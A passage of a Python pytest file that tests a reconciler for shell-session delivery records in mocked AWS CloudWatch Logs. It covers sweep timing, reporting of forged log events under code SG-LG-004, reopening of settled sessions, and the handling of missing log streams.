    assert summary["records_unread"] == 0
    assert all(record(stack, session_id)["stream_events"] == 6 for session_id in ids)


def test_a_record_stamped_earlier_in_the_second_the_reconciler_runs_is_swept(app: ModuleType, stack: Stack) -> None:
    # Given a shell whose first delivery record is stamped 0.4 s into a second
    start_shell(app, stack)
    delivery = StreamDelivery(SHELL_SESSION, "b-1", START + 1, START + 60, events=3, lines=2)
    put_messages(SHELL_SESSION, [json.dumps(delivery_record(delivery))], at=START + 60.4)
    # When the reconciler runs 0.3 s later, in the same second
    stack.at(START + 60.7)
    invoke(app, schedule())
    # Then its sweep, which ends now to the millisecond (not at the whole second), saw the record and read the stream
    assert (record(stack)["streamed"], record(stack)["stream_events"]) == (True, 3)


def test_sg_lg_004_a_record_of_forged_events_is_reported_at_the_next_run(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=2, batch="b-1")
    stack.at(START + 60)
    assert invoke(app, schedule())["findings"] == {}
    stream(stack, lines=1, batch="b-2", at=START + 90, forged_events=1)
    stack.at(START + 120)
    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}
    assert record(stack)["stream_events"] == 6


def test_records_written_after_a_session_was_let_go_open_it_again(app: ModuleType, stack: Stack) -> None:
    # Given a session that ended, whose transcript arrived, and which the reconciler let go
    start_shell(app, stack)
    stream(stack, lines=5, batch="b-1")
    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    stack.at(START + 7200)
    assert invoke(app, schedule())["settled"] == 1
    # When events claiming another session are written into its stream afterwards
    stream(stack, lines=0, batch="b-late", at=START + 7300, forged_events=2)
    stack.at(START + 7400)
    # Then the next run's sweep puts it back in the Open index, and the same run reads them and reports them
    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}
    # And the runs after that report nothing more: the first lets it go, the next leaves it alone
    stack.at(START + 7700)
    again = invoke(app, schedule())
    assert (again["findings"], again["settled"]) == ({}, 1)
    stack.at(START + 8000)
    assert invoke(app, schedule())["sessions"] == 0


class LogsThatRefuseMissingStreams:
    """moto's FilterLogEvents, refusing (as the service does) a request that names a stream the group lacks."""

    def __init__(self) -> None:
        self.client = boto3.client("logs", region_name=REGION)
        self.requests: list[list[str]] = []

    def filter_log_events(self, **request: Any) -> Any:
        names = request.get("logStreamNames", [])
        self.requests.append(names)
        existing = {
            s["logStreamName"] for s in self.client.describe_log_streams(logGroupName=SANITIZED_GROUP)["logStreams"]
        }
        if set(names) - existing:
            error = {
                "Error": {"Code": "ResourceNotFoundException", "Message": "The specified log stream does not exist."}
            }
            raise ClientError(error, "FilterLogEvents")  # type: ignore[arg-type]
        return self.client.filter_log_events(**request)


def test_a_stream_that_does_not_exist_is_read_as_no_records_and_the_others_are_read() -> None:
    with mock_aws():
        boto3.client("logs", region_name=REGION).create_log_group(logGroupName=SANITIZED_GROUP)
        for n in range(4):
            session_id = f"jane.roe-{n:017x}"
            put_messages(session_id, [json.dumps(delivery_record(StreamDelivery(session_id, "b", START, START, 1, n)))])
        logs = LogsThatRefuseMissingStreams()
        reader = DeliveryRecords(SANITIZED_GROUP, logs)  # type: ignore[arg-type]
        wanted = [f"jane.roe-{n:017x}" for n in range(4)] + ["never.streamed-0a1b2c3d4e5f60718"]
        reads = reader.read(wanted, PageBudget(20))
        assert reads.unread == set()
        assert reads.records["never.streamed-0a1b2c3d4e5f60718"] == []
        assert [reads.records[f"jane.roe-{n:017x}"][0].lines for n in range(4)] == [0, 1, 2, 3]
        # the 5 refused; halves of 2 (read) and 3 (refused); 1 (read) and 2 (refused); 1 (read) and the missing 1
        assert [len(names) for names in logs.requests] == [5, 2, 3, 1, 2, 1, 1]
        assert reader.calls == 7
